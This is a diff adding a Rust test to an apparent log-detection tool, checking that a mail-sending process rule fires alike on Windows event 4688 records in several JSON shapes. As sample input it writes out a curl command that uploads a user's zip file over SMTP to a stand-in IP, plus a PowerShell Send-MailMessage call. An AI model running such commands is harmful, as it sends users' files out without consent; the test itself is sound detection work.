@@ -158,3 +158,120 @@ fn winlogbeat_hostile_and_missing_values_are_located() {
     // Lines 1 and 4 (port 25 from ECS, then from the EventData fallback) are rundll32 on SMTP.
     assert_eq!(out.alerts.len(), 2, "{:?}", out.alerts);
 }
+
+/// Security EventID 4688 in the shapes it is shipped in: flat JSON (security-4688), Winlogbeat
+/// with the raw EventData and Winlogbeat's ECS fields (winlogbeat-security-4688, detected from
+/// the first record although winlogbeat-sysmon-process detects it too: both read
+/// `winlog.event_data.CommandLine`, only one takes EventID 4688), and ECS alone (named with
+/// `--schema`) give the pack's process rule the same alerts: PowerShell `Send-MailMessage` and
+/// curl `--mail-rcpt` alert, notepad does not.
+#[test]
+fn security_4688_alerts_alike_in_every_shape() {
+    let dir = std::env::temp_dir().join(format!("detc-4688-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).unwrap();
+    let events = [
+        (
+            "10:00:00",
+            r"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+            r#"powershell -c Send-MailMessage -SmtpServer smtp.example.net -To a@example.net -From b@example.org -Subject s"#,
+        ),
+        (
+            "10:01:00",
+            r"C:\\Windows\\System32\\notepad.exe",
+            "notepad.exe a.txt",
+        ),
+        (
+            "10:02:00",
+            r"C:\\Windows\\System32\\curl.exe",
+            r#"curl.exe --url smtp://203.0.113.7 --mail-rcpt x@example.net -T C:\\Users\\dana\\a.zip"#,
+        ),
+    ];
+    let esc = |s: &str| s.replace('"', r#"\""#);
+    let flat: Vec<String> = events
+        .iter()
+        .map(|(t, image, cmd)| {
+            format!(
+                r#"{{"EventID": 4688, "Channel": "Security", "Computer": "WS01", "TimeCreated": "2026-11-20T{t}Z", "NewProcessName": "{image}", "CommandLine": "{}", "ParentProcessName": "C:\\Windows\\explorer.exe", "SubjectUserName": "dana", "SubjectDomainName": "CORP", "TargetUserName": "-", "TargetDomainName": "-", "NewProcessId": "0x1a2c", "MandatoryLabel": "S-1-16-8192"}}"#,
+                esc(cmd)
+            )
+        })
+        .collect();
+    let winlog = |t: &str, event_data: &str, ecs: &str| {
+        format!(
+            r#"{{"@timestamp": "2026-11-20T{t}.000Z", "host": {{"name": "WS01"}}, "event": {{"code": "4688", "module": "security"}}{ecs}, "winlog": {{"channel": "Security", "event_id": 4688, "computer_name": "WS01", "provider_name": "Microsoft-Windows-Security-Auditing", "event_data": {{{event_data}}}}}}}"#
+        )
+    };
+    let raw_data = |image: &str, cmd: &str| {
+        format!(
+            r#""NewProcessName": "{image}", "CommandLine": "{}", "ParentProcessName": "C:\\Windows\\explorer.exe", "SubjectUserName": "dana", "SubjectDomainName": "CORP", "TargetUserName": "-", "TargetDomainName": "-", "NewProcessId": "0x1a2c", "MandatoryLabel": "S-1-16-8192""#,
+            esc(cmd)
+        )
+    };
+    let ecs = |image: &str, cmd: &str| {
+        format!(
+            r#", "user": {{"name": "dana", "domain": "CORP"}}, "process": {{"executable": "{image}", "command_line": "{}", "parent": {{"executable": "C:\\Windows\\explorer.exe"}}}}"#,
+            esc(cmd)
+        )
+    };
+    let raw: Vec<String> = events
+        .iter()
+        .map(|(t, i, c)| winlog(t, &raw_data(i, c), ""))
+        .collect();
+    let both: Vec<String> = events
+        .iter()
+        .map(|(t, i, c)| winlog(t, &raw_data(i, c), &ecs(i, c)))
+        .collect();
+    let ecs_only: Vec<String> = events
+        .iter()
+        .map(|(t, i, c)| winlog(t, r#""MandatoryLabel": "S-1-16-8192""#, &ecs(i, c)))
+        .collect();
+    let rules: Vec<Rule> = pack()
+        .into_iter()
+        .filter(|r| r.name == "an0379_script_command_line_mail")
+        .collect();
+    let run_as = |name: &str, lines: &[String], schema: Option<&str>| {
+        let f = dir.join(name);
+        std::fs::write(&f, lines.join("\n") + "\n").unwrap();
+        let opts = RunOptions {
+            threads: 1,
+            schema: schema.map(str::to_string),
+            ..RunOptions::default()
+        };
+        let out = run_files(&rules, &[f], &opts).unwrap_or_else(|d| panic!("{name}: {d:?}"));
+        assert_eq!(out.summary.bad_lines, 0, "{name}: {:?}", out.summary.bad);
+        let read_as: Vec<String> = out.summary.schemas.values().cloned().collect();
+        let alerts: Vec<(String, String)> = out
+            .alerts
+            .iter()
+            .map(|a| {
+                let v = serde_json::to_value(a).unwrap();
+                (
+                    v["group"]["host"].to_string(),
+                    v["group"]["process.name"].to_string(),
+                )
+            })
+            .collect();
+        (alerts, read_as)
+    };
+    let (want, read_as) = run_as("flat.jsonl", &flat, None);
+    assert_eq!(read_as, ["security-4688"]);
+    assert_eq!(
+        want,
+        [
+            ("\"WS01\"".to_string(), "\"curl.exe\"".to_string()),
+            ("\"WS01\"".to_string(), "\"powershell.exe\"".to_string())
+        ],
+        "two mail-sending command lines, not notepad"
+    );
+    for (name, lines) in [("raw.jsonl", &raw), ("ecs.jsonl", &both)] {
+        let (got, read_as) = run_as(name, lines, None);
+        assert_eq!(read_as, ["winlogbeat-security-4688"], "{name}");
+        assert_eq!(got, want, "{name}");
+    }
+    let (got, _) = run_as(
+        "ecs_only.jsonl",
+        &ecs_only,
+        Some("winlogbeat-security-4688"),
+    );
+    assert_eq!(got, want, "ECS fields alone");
+}
